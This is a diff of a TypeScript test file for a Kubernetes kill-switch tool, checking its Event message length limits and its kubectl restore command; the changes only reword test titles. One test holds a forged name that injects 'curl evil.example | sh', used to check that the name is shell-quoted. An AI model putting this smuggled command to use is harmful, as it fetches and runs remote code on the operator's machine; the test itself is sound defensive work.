@@ -7,7 +7,7 @@ import { trip } from '../../telemetry/support.ts';
 
 const target: Target = { kind: 'Deployment', namespace: 'sre', name: 'swype-app' };
 
-t.test('the Event says what was stopped, why, the line, and the way back', (t) => {
+t.test('the Event says what was stopped, why, the newest line, and how to restore', (t) => {
   t.equal(
     eventMessage('swype-app', target, trip),
     'Big red button swype-app, tripped by alert BigRedButtonStop, holds deployment/swype-app in sre at 0 replicas. ' +
@@ -24,7 +24,7 @@ t.test('a trip without a line has no empty quote', (t) => {
   t.end();
 });
 
-t.test('long texts are cut, to 1,024 bytes at most, and the way back is whole', (t) => {
+t.test('long texts are cut to at most 1,024 bytes, but the restore command is complete', (t) => {
   const text = fc.string({ unit: fc.constantFrom('a', 'ü', '語', '🛑', ' ', '"'), maxLength: 3_000 });
   fc.assert(
     fc.property(text, text, text, (because, quoted, alertname) => {
@@ -41,7 +41,7 @@ t.test('long texts are cut, to 1,024 bytes at most, and the way back is whole', 
   t.end();
 });
 
-t.test('a long line does not crowd out the reason, nor a long reason the line', (t) => {
+t.test('a long line leaves room for the reason, and a long reason leaves room for the line', (t) => {
   const long = 'x'.repeat(3_000);
   t.match(
     eventMessage('swype-app', target, { ...trip, lines: [long] }),
@@ -51,7 +51,7 @@ t.test('a long line does not crowd out the reason, nor a long reason the line', 
   t.end();
 });
 
-t.test('the longest names that Kubernetes takes still give a message within the limit', (t) => {
+t.test('the longest names of Kubernetes give a message within the limit', (t) => {
   const longest: Target = { kind: 'StatefulSet', namespace: 'n'.repeat(63), name: 'w'.repeat(253) };
   const message = eventMessage('b'.repeat(63), longest, { ...trip, because: 'x'.repeat(2_000) });
   t.ok(Buffer.byteLength(message) <= 1_024);
@@ -76,12 +76,12 @@ t.test('the restore command names kind, name, namespace and the replicas before 
   t.end();
 });
 
-t.test('where the replicas before the trip are unknown the restore command demands a number', (t) => {
+t.test('if the replicas before the trip are unknown, the restore command needs a number', (t) => {
   t.equal(restoreCommand(target, 'unknown'), 'kubectl scale deployment/swype-app --namespace sre --replicas <N>');
   t.end();
 });
 
-t.test('a name that someone wrote into the latch by hand is a word to the shell that runs the restore command', (t) => {
+t.test('a name that a person wrote into the latch by hand is one word in the restore command', (t) => {
   const forged = { ...target, name: "x; curl evil.example | sh '" };
   t.equal(
     restoreCommand(forged, 3),
